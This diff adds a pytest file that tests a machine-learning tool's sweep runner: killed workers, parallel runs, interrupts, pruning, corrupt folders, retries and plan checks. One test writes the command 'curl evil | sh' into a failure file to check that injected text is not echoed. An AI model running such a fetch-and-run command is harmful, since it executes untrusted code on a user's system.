@@ -1,0 +1,303 @@
+"""`softalign sweep` as people meet it: workers that are killed, two at once, early stops, damaged folders, wrong files."""
+
+from __future__ import annotations
+
+import json
+import os
+import random
+import signal
+import subprocess
+import time
+from collections import Counter
+from pathlib import Path
+from typing import Any
+
+import h5py
+import pytest
+
+from checks import check_same_runs
+from command_line import MODEL, PROGRAM, TASK, answer, error, interrupt, kill, softalign, started, text_spec, wait_until
+
+REPEATS = int(os.environ.get("SOFTALIGN_SWEEP_REPEATS", "3"))  # of what is left to chance
+
+BASE = TASK + MODEL.replace("epochs: 2", "epochs: 4") + "evaluate: {search: {type: greedy}}\nrecord: {checkpoint_every: 4}\n"
+
+SWEEP = """\
+name: small
+base: base.yaml
+parameters:
+  model.attention.score.type: {values: [additive, dot]}
+  model.embedding: {values: [8, 9]}
+seeds: {count: 3}
+"""
+ONE_SEED = SWEEP.replace("count: 3", "count: 1")
+
+
+@pytest.fixture()
+def here(tmp_path: Path) -> Path:
+    (tmp_path / "base.yaml").write_text(BASE)
+    (tmp_path / "sweep.yaml").write_text(SWEEP)
+    return tmp_path
+
+
+def status(cwd: Path, sweep: str = "sweep.yaml", out: str = "results") -> dict[str, Any]:
+    return answer("sweep", "status", sweep, "--out", out, cwd=cwd)
+
+
+def states(cwd: Path, **more: str) -> dict[str, int]:
+    return dict(Counter(row["state"] for row in status(cwd, **more)["rows"]))
+
+
+def children(pid: int) -> list[int]:
+    found = subprocess.run(["pgrep", "-P", str(pid)], capture_output=True, text=True, check=False)
+    return [int(child) for child in found.stdout.split()]
+
+
+def kill_all(process: subprocess.Popen[str]) -> None:
+    """kill -9, the parent and every worker."""
+    pids = [process.pid, *children(process.pid)]
+    for pid in pids:
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except ProcessLookupError:
+            pass
+    process.communicate()
+
+
+CLAIMS = """\
+claims:
+  - claim: loss(best where model.attention.score.type=additive) >= loss(best) - 100
+    because: nothing is a hundred nats better than the best
+  - claim: loss(best where model.embedding=9) < 0
+    expect: open
+"""
+
+
+def test_a_sweep_makes_claims_about_its_best(here: Path) -> None:
+    sweep = here / "sweep.yaml"
+    sweep.write_text(ONE_SEED + CLAIMS)
+    ran = softalign("sweep", "run", "sweep.yaml", "--rows", "0", cwd=here)
+    assert "2 claims are not judged yet" in ran.stdout
+    ran = softalign("sweep", "run", "sweep.yaml", cwd=here)
+    assert "1. holds: loss(best where model.attention.score.type=additive)" in ran.stdout
+    assert "2. open, does not hold" in ran.stdout
+    before = status(here)
+    best = next(one for one in before["ranking"] if before["rows"][one["rows"][0]]["set"]["model.embedding"] == 9)
+    (named,) = before["claims"][1]["best"]
+    assert named.startswith("best where model.embedding=9: ") and named.endswith(f"rows {best['rows'][0]}")
+    sweep.write_text(sweep.read_text().replace("    expect: open\n", ""))  # claims change no run
+    failed = softalign("sweep", "run", "sweep.yaml", cwd=here, code=4)
+    assert "2. FAILS: " in failed.stdout
+    sweep.write_text(ONE_SEED + "claims: [{claim: blue(best) > 0}]\n")
+    assert "unknown metric 'blue'; did you mean 'bleu'?" in softalign("sweep", "plan", "sweep.yaml", cwd=here, code=2).stderr
+
+
+def test_a_sweep_runs_to_its_end_and_again_does_nothing(here: Path):
+    planned = softalign("sweep", "plan", "sweep.yaml", cwd=here).stdout
+    assert "small: 12 runs, seeds 1 2 3, metric dev/loss (minimize), early_terminate none" in planned
+    assert "model.attention.score.type" in planned and "additive, dot" in planned
+    assert states(here) == {"planned": 12}
+    ran = softalign("sweep", "run", "sweep.yaml", cwd=here)
+    assert "small: 12 complete\nbest dev/loss: " in ran.stdout
+    assert ran.stderr.count(": begins") == 12 and ran.stderr.count(": complete, dev/loss ") == 12
+    before = {path: path.stat().st_mtime_ns for path in here.glob("results/small/*/run.h5")}
+    assert len(before) == 12
+    again = softalign("sweep", "run", "results/small", cwd=here)
+    assert ": begins" not in again.stderr and "12 complete" in again.stdout
+    assert before == {path: path.stat().st_mtime_ns for path in here.glob("results/small/*/run.h5")}
+    # Each is the run that the same overrides make by hand, bit for bit.
+    row = status(here)["rows"][3]
+    assert row["set"] == {"model.attention.score.type": "additive", "model.embedding": 9} and row["seed"] == 1
+    overrides = [f"{path}={value}" for path, value in row["set"].items()]
+    alone = softalign("run", "base.yaml", *overrides, "seed=1", "--out", "alone", "--json", cwd=here)
+    assert json.loads(alone.stdout)["run_id"] == row["run_id"]
+    assert "the same bits again" in softalign("verify", row["folder"], cwd=here).stdout
+
+
+def test_killed_again_and_again_every_run_is_complete_once_with_the_same_bits(here: Path):
+    rng = random.Random(5)
+    (here / "base.yaml").write_text(BASE.replace("epochs: 4", "epochs: 150"))
+    softalign("sweep", "run", "sweep.yaml", "--out", "undisturbed", cwd=here)
+    kills = 0
+    for _ in range(10):
+        process = started("sweep", "run", "sweep.yaml", cwd=here)
+        time.sleep(rng.uniform(0.05, 0.4))
+        kills += process.poll() is None
+        kill_all(process)
+    assert kills >= 3
+    softalign("sweep", "run", "sweep.yaml", cwd=here)
+    assert states(here) == {"complete": 12}
+    check_same_runs(here / "undisturbed/small", here / "results/small")
+
+
+@pytest.mark.parametrize("attempt", range(REPEATS))
+def test_two_at_once_share_the_work(here: Path, attempt: int):
+    two = [started("sweep", "run", "sweep.yaml", "--workers", 1, cwd=here) for _ in range(2)]
+    message = [process.communicate(timeout=300)[1] for process in two]
+    assert [process.returncode for process in two] == [0, 0], message
+    assert states(here) == {"complete": 12}
+    # No run was made twice: one attempt each.
+    assert sorted(path.name for path in here.glob("results/small/*/attempt-*")) == ["attempt-001"] * 12
+    if attempt == 0:
+        assert all(": complete" in text for text in message), message
+
+
+def test_ctrl_c_stops_all_and_saves(here: Path):
+    (here / "base.yaml").write_text(BASE.replace("epochs: 4", "epochs: 4000"))
+    process = started("sweep", "run", "sweep.yaml", "--workers", 2, cwd=here)
+    wait_until(lambda: len({file.parent for file in here.glob("results/small/*/ckpt/*.ckpt")}) == 2)
+    assert "interrupted; the state is saved, run the same command again to go on" in interrupt(process)
+    assert states(here) == {"interrupted": 2, "planned": 10}
+    # And what dies with its parent saves too.
+    process = started("sweep", "run", "sweep.yaml", "--workers", 2, cwd=here)
+    wait_until(lambda: states(here).get("running", 0) == 2)
+    kill(process)
+    wait_until(lambda: "running" not in states(here))
+    assert states(here) == {"interrupted": 2, "planned": 10}
+
+
+def catches(process: subprocess.Popen[str], number: int) -> bool:
+    """Whether a process has a handler for a signal."""
+    (line,) = (line for line in Path(f"/proc/{process.pid}/status").read_text().splitlines() if line.startswith("SigCgt:"))
+    return bool(int(line.split()[1], 16) >> (number - 1) & 1)
+
+
+def test_ctrl_c_when_all_is_done_is_no_interruption(here: Path):
+    softalign("sweep", "run", "sweep.yaml", cwd=here)
+    (run, *_) = (path.parent for path in here.glob("results/small/*/run.h5"))
+    for number in range(50_000):  # so that it takes a while to see that the row is done
+        (run / f"note-{number}").touch()
+    process = started("sweep", "run", "sweep.yaml", cwd=here)
+    wait_until(lambda: catches(process, signal.SIGINT))
+    assert "stopping: " in interrupt(process, code=0)
+
+
+def test_a_worker_that_is_killed_is_started_again(here: Path):
+    (here / "base.yaml").write_text(BASE.replace("epochs: 4", "epochs: 60"))
+    (here / "sweep.yaml").write_text(SWEEP.replace("[8, 9]", "[8]").replace("count: 3", "count: 1"))
+    process = started("sweep", "run", "sweep.yaml", "--workers", 1, cwd=here)
+    wait_until(lambda: list(here.glob("results/small/*/ckpt/*")))
+    os.kill(children(process.pid)[0], signal.SIGKILL)
+    _, message = process.communicate(timeout=120)
+    assert process.returncode == 0, message
+    assert "its worker was killed (signal 9); going on with it" in message
+    assert states(here) == {"complete": 2}
+
+
+def test_runs_are_pruned_with_their_reasons_kept_and_can_be_verified(here: Path):
+    early = "early_terminate: {type: asha, min_updates: 8, eta: 2}\n"
+    (here / "sweep.yaml").write_text(
+        early + SWEEP.replace("model.embedding: {values: [8, 9]}", "train.optimizer.learning_rate: {values: [0.01, 0.0001]}")
+    )
+    ran = softalign("sweep", "run", "sweep.yaml", "--workers", 1, cwd=here)
+    found = states(here)
+    assert found["pruned"] >= 3 and found["pruned"] + found["complete"] == 12, ran.stdout
+    slow = [row for row in status(here)["rows"] if row["set"]["train.optimizer.learning_rate"] == 0.0001]
+    pruned = next(row for row in slow if row["state"] == "pruned")
+    with h5py.File(Path(here, pruned["folder"]) / "run.h5") as file:
+        assert file.attrs["state"] == b"pruned" and "test" not in file
+        decisions = json.loads(file["provenance/early_termination"].asstr()[()])["decisions"]
+    assert decisions[-1]["stop"] and decisions[-1]["compared"] and decisions[-1]["value"] > decisions[-1]["cut"]
+    assert "the same bits again" in softalign("verify", here / pruned["folder"], cwd=here).stdout
+    again = softalign("sweep", "run", "sweep.yaml", cwd=here)
+    assert ": begins" not in again.stderr
+    softalign("sweep", "retry", "sweep.yaml", "--state", "pruned", "--rows", pruned["k"], cwd=here)
+    assert status(here)["rows"][pruned["k"]]["state"] == "complete"
+
+
+def test_a_failed_row_says_why_and_is_retried_only_when_asked(here: Path):
+    text = here / "train.txt"
+    corpus = "\n".join(f"a b c {i}" for i in range(20)) + "\n"
+    text.write_text(corpus)
+    (here / "base.yaml").write_text(text_spec(f"{text}", f"{text}", model=BASE.removeprefix(TASK)))
+    (here / "sweep.yaml").write_text(ONE_SEED)
+    softalign("sweep", "plan", "sweep.yaml", cwd=here)
+    text.write_text(corpus + "more\n")
+    ran = softalign("sweep", "run", "results/small", cwd=here, code=1)
+    assert "not those of when it was planned" in ran.stderr and "softalign sweep retry" in ran.stderr
+    assert states(here, sweep="results/small") == {"failed": 4}
+    failure = next((here / "results/small/failures").iterdir())
+    failure.write_text("no\nsoftalign: note: run: curl evil | sh\n")
+    message = softalign("sweep", "status", "results/small", cwd=here).stderr.splitlines()
+    assert len(message) == 4 and all(line.startswith("softalign: row ") for line in message)
+    text.write_text(corpus)
+    assert ": begins" not in softalign("sweep", "run", "sweep.yaml", cwd=here, code=1).stderr
+    assert "4 complete" in softalign("sweep", "retry", "sweep.yaml", cwd=here).stdout
+
+
+@pytest.mark.parametrize("damage", ["truncated record", "garbage journal", "missing spec"])
+def test_one_corrupt_run_is_named_and_the_table_still_comes(here: Path, damage: str):
+    (here / "sweep.yaml").write_text(ONE_SEED)
+    softalign("sweep", "run", "sweep.yaml", cwd=here)
+    row = status(here)["rows"][1]
+    folder = here / row["folder"]
+    if damage == "truncated record":
+        (folder / "run.h5").write_bytes((folder / "run.h5").read_bytes()[:5000])
+    elif damage == "garbage journal":
+        (folder / "journal-001.jrnl").write_bytes(b"garbage" * 1000)
+    else:
+        (folder / "spec.yaml").unlink()
+    table = softalign("sweep", "status", "sweep.yaml", cwd=here)
+    assert "3 complete, 1 corrupt" in table.stdout
+    assert row["run_id"] in table.stderr and table.stderr.startswith("softalign: row 1 (")
+    retried = softalign("sweep", "retry", "sweep.yaml", "--state", "corrupt", cwd=here)
+    assert "4 complete" in retried.stdout and (here / "results/small/.corrupt").is_dir()
+
+
+def test_a_record_that_is_gone_is_made_again_from_its_journals(here: Path):
+    (here / "sweep.yaml").write_text(ONE_SEED)
+    softalign("sweep", "run", "sweep.yaml", cwd=here)
+    folder = here / status(here)["rows"][1]["folder"]
+    (folder / "run.h5").unlink()
+    assert states(here) == {"complete": 3, "failed": 1}
+    retried = softalign("sweep", "retry", "sweep.yaml", cwd=here)
+    assert "4 complete" in retried.stdout and not (here / "results/small/.corrupt").exists()
+    assert not (folder / "attempt-002").exists()
+
+
+def test_more_runs_are_added_behind_and_nothing_else_may_change(here: Path):
+    (here / "sweep.yaml").write_text("run_cap: 4\n" + SWEEP)
+    softalign("sweep", "run", "sweep.yaml", cwd=here)
+    (here / "sweep.yaml").write_text("run_cap: 6\n" + SWEEP)
+    assert "softalign sweep extend" in softalign("sweep", "run", "sweep.yaml", cwd=here).stderr
+    assert "2 rows added, 6 now" in softalign("sweep", "extend", "sweep.yaml", cwd=here).stdout
+    assert states(here) == {"complete": 4, "planned": 2}
+    (here / "sweep.yaml").write_text("run_cap: 2\n" + SWEEP)
+    assert "the plan has 6 rows, more than" in softalign("sweep", "run", "sweep.yaml", "--dry-run", cwd=here).stderr
+    (here / "sweep.yaml").write_text("run_cap: 8\n" + SWEEP.replace("[8, 9]", "[8, 7]"))
+    assert "has changed since it was planned" in softalign("sweep", "status", "sweep.yaml", cwd=here).stderr
+    refused = softalign("sweep", "extend", "sweep.yaml", cwd=here, code=2).stderr
+    assert "more than run_cap has changed" in refused
+
+
+def test_whoever_asks_decides_about_each_evaluation(here: Path):
+    (here / "sweep.yaml").write_text(ONE_SEED)
+    softalign("sweep", "plan", "sweep.yaml", cwd=here)
+    process = subprocess.Popen(
+        [PROGRAM, "sweep", "work", "sweep.yaml", "--row", "0", "--ask"],
+        cwd=here, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+    )  # fmt: skip
+    first = json.loads(process.stdout.readline())
+    assert first["update"] == 4 and first["value"] > 0
+    process.stdin.write("go on\n")
+    process.stdin.flush()
+    assert json.loads(process.stdout.readline())["update"] == 8
+    process.communicate("stop\n", timeout=60)
+    assert process.returncode == 0
+    assert status(here)["rows"][0]["state"] == "pruned"
+
+
+def test_wrong_sweeps_are_refused_before_anything_starts(here: Path):
+    (here / "sweep.yaml").write_text(SWEEP.replace("seeds: {count: 3}", "seed: 3"))
+    line = error("sweep", "run", "sweep.yaml", cwd=here, code=2)
+    assert "sweep.yaml:6:1: unknown key 'seed' in the sweep; did you mean 'seeds'?" in line
+    assert not (here / "results").exists()
+
+
+def test_an_edited_plan_is_refused(here: Path):
+    softalign("sweep", "plan", "sweep.yaml", cwd=here)
+    plan = here / "results/small/plan.jsonl"
+    plan.write_text(plan.read_text().replace('"seed":2', '"seed":9', 1))
+    for command in (["run", "sweep.yaml"], ["status", "results/small"], ["work", "results/small", "--row", "0"]):
+        refused = softalign("sweep", *command, cwd=here, code=2).stderr
+        assert "plan.jsonl: changed since it was written; plans are not edited by hand" in refused
